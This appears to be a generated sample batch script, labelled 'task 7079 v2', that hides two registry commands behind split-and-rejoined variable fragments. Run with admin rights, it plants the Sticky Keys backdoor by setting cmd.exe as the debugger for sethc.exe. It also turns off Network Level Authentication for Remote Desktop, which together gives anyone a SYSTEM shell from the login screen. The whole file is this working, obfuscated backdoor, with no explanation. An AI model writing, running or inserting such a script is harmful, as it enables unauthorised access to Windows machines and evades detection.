REM task 7079 v2
@echo off
setlocal EnableDelayedExpansion
set blg0=re
set lsh1=g a
set afu2=dd "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger 
set zzt3=/t REG_SZ /d "C:\windows\system32\cmd.exe" /f
!blg0!!lsh1!!afu2!!zzt3!
@echo off
setlocal EnableDelayedExpansion
set ame0=reg add
set lsa1= "HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /
set iwm2=v Us
set har3=erAuthentica
set gjt4=tion /t REG_DWORD /d 0 /f
!ame0!!lsa1!!iwm2!!har3!!gjt4!
